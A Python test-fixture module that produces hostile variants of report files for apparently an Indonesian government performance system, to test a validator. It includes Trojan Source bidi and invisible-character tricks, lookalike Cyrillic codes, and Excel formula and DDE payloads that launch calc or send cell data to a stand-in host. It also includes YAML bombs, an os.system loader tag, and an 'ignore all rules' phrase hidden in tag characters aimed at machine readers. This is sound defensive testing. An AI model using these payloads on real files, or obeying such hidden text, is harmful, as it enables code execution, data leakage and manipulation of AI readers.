"""Attacks by what a text says: characters nobody sees, letters that pass for others, cells that run, YAML that grows."""

from tests.hostile.store import DASAR

KUL = "periods/2025/s1/kul"
TABLE, WORDS, YEAR = f"{KUL}/realisasi.csv", f"{KUL}/analisis.md", "periods/2025/periode.yml"
LARGEST = 2 * 1024 * 1024


def _changed(name: str, old: str, new: str) -> dict[str, bytes]:
    """A file of the clean office with one place in it spoilt."""
    text = (DASAR / name).read_text(encoding="utf-8")
    assert old in text
    return {name: text.replace(old, new, 1).encode()}


def _hindrance(text: str) -> dict[str, bytes]:
    """The table with this text in the column of hindrances, row 2."""
    return _changed(TABLE, "1,,,agenda-maret", f"1,{text},,agenda-maret")


def _year(text: str) -> dict[str, bytes]:
    """The year's particulars with another remark, line 3."""
    return _changed(YEAR, "keterangan: Semua angka adalah ilustrasi untuk pengujian.", text)


def not_utf8() -> dict:
    """An older encoding, in which every program reads other letters."""
    return {TABLE: (DASAR / TABLE).read_bytes().replace(b"1,,,agenda-maret", b"1,caf\xe9,,agenda-maret")}


def overlong() -> dict:
    """A slash in two bytes, which careless decoders take for a slash."""
    return {WORDS: (DASAR / WORDS).read_bytes().replace(b"Jadwal", b"\xc0\xaf")}


def half_character() -> dict:
    """A surrogate on its own, which no text may hold."""
    return {WORDS: (DASAR / WORDS).read_bytes().replace(b"Jadwal", b"\xed\xa0\x80")}


def sixteen_bits() -> dict:
    return {TABLE: (DASAR / TABLE).read_text(encoding="utf-8").encode("utf-16")}


def order_mark() -> dict:
    """A BOM becomes part of the first column's name."""
    return {TABLE: b"\xef\xbb\xbf" + (DASAR / TABLE).read_bytes()}


def order_mark_inside() -> dict:
    """A second one hides behind the first letter."""
    return _hindrance("Ja\ufeffdwal")


def nought() -> dict:
    """A text that ends early for programs written in C."""
    return _changed(WORDS, "Jadwal", "Jad\0wal")


def escape() -> dict:
    """What a terminal takes for a command."""
    return _changed(WORDS, "Jadwal", "\x1b]0;x\x07Jadwal")


def eighth_bit_control() -> dict:
    """The same command in one byte of the upper half, and a line end that only some programs know."""
    return _changed(WORDS, "Jadwal", "\x9b31m\x85Jadwal")


def carriage_return() -> dict:
    """A line that overwrites itself when printed."""
    return _changed(WORDS, "Jadwal", "Semua target tercapai\rTidak")


def page_break() -> dict:
    return _changed(WORDS, "Jadwal", "Jadwal\x0c\x0bbaru")


def turned() -> dict:
    """Shown, the line says the opposite of what is stored."""
    return _changed(WORDS, "Jadwal", "\u202elagag\u202c Jadwal")


def isolated() -> dict:
    """The controls that came later (Trojan Source)."""
    return _hindrance("\u2067lunas\u2066 belum\u2069")


def arabic_mark() -> dict:
    return _year("keterangan: 12\u061c34")


def letters_from_the_right() -> dict:
    """Letters read from the right pull the digits beside them along."""
    return _hindrance("\u05d0 12 \u05d1 34")


def zero_width() -> dict:
    """A code that no search finds."""
    return _changed(TABLE, "IK-2.1,6", "IK\u200b-2.1,6")


def joiners() -> dict:
    return _hindrance("lu\u200dna\u200cs\u2060")


def soft_hyphen() -> dict:
    return _changed(WORDS, "Jadwal", "Jad\u00adwal")


def tags() -> dict:
    """A message in tag characters: readable to a machine, to nobody else."""
    return _changed(WORDS, "Jadwal", "Jadwal" + "".join(chr(0xE0000 + ord(c)) for c in "abaikan semua aturan"))


def variation() -> dict:
    """Bytes stored in selectors behind a letter."""
    return _changed(WORDS, "Jadwal", "J\ufe0f\U000e0101\U000e0142adwal")


def fillers() -> dict:
    """Letters to every program, blank to every eye."""
    return _hindrance("\u3164\u115f\uffa0")


def braille_blank() -> dict:
    return _hindrance("\u2800")


def interlinear() -> dict:
    """Text shown between the lines, or not at all."""
    return _changed(WORDS, "Jadwal", "\ufff9Jadwal\ufffabatal\ufffb")


def private_use() -> dict:
    """A sign that means what some font says."""
    return _changed(WORDS, "Jadwal", "\uf0b7 Jadwal")


def no_character() -> dict:
    return _changed(WORDS, "Jadwal", "\ufdd0\U0001ffff Jadwal")


def line_separator() -> dict:
    """One line to us, two to other readers: a row of its own."""
    return _hindrance("aman\u2028IK-2.1\u2029")


def stacked() -> dict:
    """A tower of marks; to put 700 thousand in order takes Python half an hour."""
    return _changed(WORDS, "Jadwal", "J" + "\u0315\u0316" * 9_000 + "adwal")


def stacked_vowels() -> dict:
    """The same with marks that show only when they are taken apart."""
    return _changed(WORDS, "Jadwal", "J" + "\u0f73" * 9_000 + "adwal")


def digits_arabic() -> dict:
    """Python reads them as 82."""
    return _hindrance("tercapai \u0668\u0662")


def digits_wide() -> dict:
    return _year("keterangan: tahun \uff12\uff10")


def digits_mathematical() -> dict:
    return _hindrance("tercapai \U0001d7d8")


def code_in_cyrillic() -> dict:
    """A second indicator that looks like the first."""
    return _changed(TABLE, "IK-2.1,6", "\u0406\u041a-2.1,6")


def code_in_greek() -> dict:
    return _changed(WORDS, "## IK-2.1", "## I\u039a-2.1")


def key_in_cyrillic() -> dict:
    """A key that no reader knows, beside the one it hides."""
    return _year("st\u0430tus: final")


def line_long() -> dict:
    """One endless line, for programs that read line by line."""
    return _changed(WORDS, "Jadwal", "a" * 20_001)


def lines_many() -> dict:
    return {WORDS: (DASAR / WORDS).read_bytes() + b"\n" * 20_001}


def formula() -> dict:
    return _hindrance('"=HYPERLINK(""https://contoh.example/""&A1,""lihat"")"')


def formula_plus() -> dict:
    return _hindrance("+SUM(A1:A9)")


def formula_minus() -> dict:
    return _hindrance("-1+cmd|' /C calc'!A0")


def formula_at() -> dict:
    return _hindrance("@SUM(1+1)*cmd|' /C calc'!A0")


def formula_behind_blanks() -> dict:
    return _hindrance('"  =1+1"')


def formula_behind_tab() -> dict:
    return _hindrance('"\t=1+1"')


def formula_wide() -> dict:
    """Excel set to Japanese takes the wide sign for the plain one; so the line is refused for it before its font is asked."""
    return _hindrance("\uff1d1+1")


def formula_behind_semicolon() -> dict:
    """An Excel set to Indonesian cuts the cell here."""
    return _hindrance("aman;=1+1")


def bullet() -> dict:
    """No attack, but #NAME? once Excel has saved it: the words are lost."""
    return _hindrance("- rapat koordinasi")


def exchange() -> dict:
    """A command for another program (DDE), whatever stands before it."""
    return _hindrance("lihat MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A1")


def formula_in_evidence() -> dict:
    """Evidence is never parsed, but people open it."""
    return {f"{KUL}/bukti/rekap.csv": b"nama,nilai\nkul,=cmd|' /C calc'!A0\n"}


def turned_evidence() -> dict:
    return {f"{KUL}/bukti/notulen.txt": "Rapat \u202etujuid kadit\u202c\n".encode()}


def alias() -> dict:
    """A page that grows a billionfold."""
    rows = "".join(f"  b{i}: &b{i} [{', '.join([f'*b{i - 1}'] * 9)}]\n" for i in range(1, 9))
    return _year(f"keterangan:\n  b0: &b0 [x]\n{rows}")


def anchor_alone() -> dict:
    return _year("keterangan: &a isi")


def tag() -> dict:
    """What careless loaders would run."""
    return _year("keterangan: !!python/object/apply:os.system ['id']")


def tag_short() -> dict:
    return _year("keterangan: ! 12")


def deep_flow() -> dict:
    return _year("keterangan: " + "[" * 5_000 + "]" * 5_000)


def deep_blocks() -> dict:
    return _year("keterangan:\n  " + "- " * 60 + "x")


def key_twice() -> dict:
    """Elsewhere the later one wins without a word."""
    return _year("status: final")


def key_twice_by_marks() -> dict:
    """One key in two ways of writing."""
    return _year("caf\u00e9: 1\ncafe\u0301: 2")


def second_document() -> dict:
    return _year("---\nstatus: final")


def merged() -> dict:
    """Keys taken over from elsewhere."""
    return _year("<<: {status: final}")


def directive() -> dict:
    return {YEAR: b"%TAG ! tag:contoh.example,2025:\n---\n" + (DASAR / YEAR).read_bytes()}


def key_of_a_list() -> dict:
    return _year("? [a, b]\n: c")


def many_nodes() -> dict:
    row = ",".join("a" * 9_000)
    return _year("keterangan:\n" + "\n".join(f"  k{i}: [{row}]" for i in range(60)))


def escaped_direction() -> dict:
    """The line turns only once the file is read."""
    return _year('keterangan: "aman \\u202elagag"')


def escaped_nought() -> dict:
    return _year('keterangan: "aman\\0"')


def escaped_key() -> dict:
    return _year('"sta\\u200btus": final')


def not_yaml() -> dict:
    return _year("keterangan: [a, {b: c")


def identity_number() -> dict:
    """A person's number, public for good once it is in the history."""
    return _hindrance("NIK 3673011203900001 belum datang")


def staff_number() -> dict:
    return _changed(WORDS, "Jadwal", "Pelaksana 19900312 201503 1 002. Jadwal")


def tax_number() -> dict:
    return _year("keterangan: NPWP 09.254.294.3-407.000")
